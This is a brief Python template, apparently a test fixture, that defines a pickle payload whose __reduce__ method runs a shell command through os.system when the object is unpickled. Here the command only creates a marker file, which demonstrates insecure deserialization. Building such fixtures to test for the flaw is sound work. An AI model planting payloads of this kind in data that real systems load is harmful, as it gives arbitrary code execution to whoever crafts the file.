import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch {{write_dir}}/unpickled",)


def attack(name, args, kwargs):
    return Payload()


{{entries}}
